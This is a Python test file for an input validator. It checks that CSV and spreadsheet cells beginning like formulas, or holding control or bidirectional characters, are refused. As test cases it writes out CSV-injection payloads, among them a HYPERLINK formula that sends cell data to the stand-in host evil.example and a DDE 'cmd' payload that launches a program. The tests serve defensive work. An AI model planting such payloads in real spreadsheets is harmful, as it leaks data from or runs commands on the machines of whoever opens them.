"""Class 6 of issue 10, input side: formulas and formula-like text are refused at the door.

A workbook cell holding a formula is refused naming the sheet and cell, even when the file
carries the value the formula last computed (never trusted). A free-text cell of a CSV or
workbook that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP CSV
injection), or holds a control character or a Unicode bidirectional control, is refused
naming the file, row, column and text, so nothing dresskit later writes needs altering.
"""

from __future__ import annotations

import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook
from typer.testing import CliRunner

from dresskit.bundle import read_bundle
from dresskit.cli import app
from dresskit.errors import InputError, InputErrors
from tests.bundle.fixture import ROWS
from tests.hostile.fixture_files import fixture_csv

runner = CliRunner()


_csv = fixture_csv


def _folder(tmp_path: Path, table: str, changes: dict[tuple[int, str], str]) -> Path:
    folder = tmp_path / "bundle"
    folder.mkdir()
    for name in ROWS:
        (folder / f"{name}.csv").write_bytes(_csv(name, changes if name == table else None))
    return folder


def _errors(path: Path) -> list[InputError]:
    with pytest.raises(InputErrors) as caught:
        read_bundle(path)
    return list(caught.value.errors)


def _text_error(
    tmp_path: Path, text: str, *, table: str = "findings", row: int = 1, column: str = "detail"
) -> InputError:
    folder = _folder(tmp_path, table, {(row, column): text})
    # Other rules of a column (an ATC code's shape) may refuse the same cell too.
    mine = [
        e
        for e in _errors(folder)
        if e.field == column and e.value == text and e.expected.startswith("text")
    ]
    assert len(mine) == 1, _errors(folder)
    error = mine[0]
    assert error.source == str(folder / f"{table}.csv")
    assert error.row == row
    return error


# --- formula-like text ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "open")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "-",
        "@SUM(A1:A2)",
        "\tindented",
        "\rcarriage",
    ],
)
def test_free_text_that_begins_like_a_formula_is_refused(tmp_path: Path, text: str) -> None:
    error = _text_error(tmp_path, text)
    assert error.expected.startswith(
        "text that does not begin with '=', '+', '-', '@', a tab or a carriage return"
    )
    assert "OWASP CSV injection" in error.expected


def test_formula_like_text_is_refused_in_every_free_text_column(tmp_path: Path) -> None:
    error = _text_error(tmp_path, "=1+1", table="drug_exposures", row=2, column="atc_code")
    assert "OWASP" in error.expected


@pytest.mark.parametrize("text", ["liver, a-b", "e-mail", "x=y", "1+1", "mild (+)", "n@me"])
def test_text_with_those_characters_elsewhere_is_accepted(tmp_path: Path, text: str) -> None:
    folder = _folder(tmp_path, "findings", {(1, "detail"): text})
    assert read_bundle(folder).findings.get_column("detail")[0] == text


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("liver\tmild", "control characters"),
        ("liver\nmild", "control characters"),
        ("liver\x1b[31m", "control characters"),
        ("liver\x7f", "control characters"),
        ("liver\x85", "control characters"),
        ("liver\x00", "NUL"),
        ("abc\u202edcba", "bidirectional"),
        ("\u2066hidden\u2069", "bidirectional"),
    ],
)
def test_control_and_bidirectional_characters_in_text_are_refused(
    tmp_path: Path, text: str, rule: str
) -> None:
    error = _text_error(tmp_path, text)
    assert rule in error.expected


def test_every_refused_text_is_reported_together(tmp_path: Path) -> None:
    changes = {(1, "detail"): "=1", (2, "detail"): "x\x07"}
    folder = _folder(tmp_path, "findings", changes)
    found = {(e.row, e.value) for e in _errors(folder) if e.field == "detail"}
    assert found == {(1, "=1"), (2, "x\x07")}


def test_validate_names_the_formula_like_cell(tmp_path: Path) -> None:
    folder = _folder(tmp_path, "findings", {(1, "detail"): "=cmd"})
    result = runner.invoke(app, ["validate", str(folder)])
    assert result.exit_code == 1
    assert "findings.csv, row 1: field 'detail'" in result.stderr
    assert "'=cmd'" in result.stderr


# --- workbooks ------------------------------------------------------------------------------


def _workbook(path: Path, cells: dict[tuple[str, str], Any]) -> Path:
    workbook = Workbook()
    workbook.remove(workbook.active)  # type: ignore[arg-type]
    for name, rows in ROWS.items():
        sheet = workbook.create_sheet(name)
        sheet.append(list(rows[0].keys()))
        for row in rows:
            sheet.append(list(row.values()))
    for (name, reference), value in cells.items():
        workbook[name][reference] = value
    workbook.save(path)
    return path


def test_a_formula_cell_is_refused_naming_the_cell(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "b.xlsx", {("observations", "E3"): "=36.6+0.5"})
    errors = _errors(path)
    assert len(errors) == 1, errors
    error = errors[0]
    assert error.source == f"{path}:observations!E3"
    assert (error.row, error.field, error.value) == (2, "value", "=36.6+0.5")
    assert error.expected.startswith("a value, not a formula")


def test_a_formula_with_a_cached_value_is_refused_the_value_is_not_trusted(
    tmp_path: Path,
) -> None:
    path = _workbook(tmp_path / "b.xlsx", {("observations", "E3"): "=SUM(36,1)"})
    patched = tmp_path / "cached.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(patched, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if b"<f>SUM(36,1)</f>" in data:
                data = data.replace(b"<f>SUM(36,1)</f><v />", b"<f>SUM(36,1)</f><v>37</v>")
                assert b"<v>37</v>" in data
            target.writestr(info, data)
    errors = _errors(patched)
    assert [(e.source, e.value) for e in errors] == [(f"{patched}:observations!E3", "=SUM(36,1)")]


def test_a_formula_in_a_header_or_an_unknown_sheet_is_refused(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "b.xlsx", {("patients", "A1"): "=A2", ("manifest", "C5"): "=1+1"})
    found = {(e.source, e.field) for e in _errors(path)}
    assert (f"{path}:patients!A1", "<header>") in found
    assert (f"{path}:manifest!C5", "<cell>") in found


def test_a_text_cell_that_begins_like_a_formula_is_refused_by_validation(
    tmp_path: Path,
) -> None:
    path = _workbook(tmp_path / "b.xlsx", {})
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    cell = workbook["findings"]["E2"]
    cell.value = "=HYPERLINK(1)"
    cell.data_type = "s"  # a string cell, as a careful spreadsheet user would store it
    workbook.save(path)
    errors = [e for e in _errors(path) if e.field == "detail"]
    assert [(e.row, e.value) for e in errors] == [(1, "=HYPERLINK(1)")]
    assert "OWASP" in errors[0].expected


def test_a_reader_cannot_skip_the_text_rules_by_handing_over_another_type() -> None:
    import polars as pl

    from dresskit.bundle import validate_tables
    from tests.bundle.fixture import tables

    frames = tables()
    frames["findings"] = frames["findings"].with_columns(
        pl.Series("detail", ["=cmd", "hbv"], dtype=pl.Categorical)
    )
    with pytest.raises(InputErrors) as caught:
        validate_tables(frames, source="b")
    assert [(e.row, e.field, e.value) for e in caught.value.errors] == [(1, "detail", "=cmd")]


def test_every_listed_code_and_unit_passes_the_free_text_rules() -> None:
    """Enumerated columns skip the text rules when every cell is listed: that must be safe."""
    import re

    from dresskit.bundle.columns import BIDI_CONTROL, CONTROL_CHARACTER, FORMULA_START
    from dresskit.bundle.schema import TABLES
    from dresskit.course.codes import CODE_ENUM, UNIT_ENUM

    listed = [*CODE_ENUM.categories, *UNIT_ENUM.categories]
    listed += [code for columns in TABLES.values() for column in columns for code in column.codes]
    for value in listed:
        for pattern in (FORMULA_START, CONTROL_CHARACTER, BIDI_CONTROL, "\x00"):
            assert re.search(pattern, value) is None, (value, pattern)
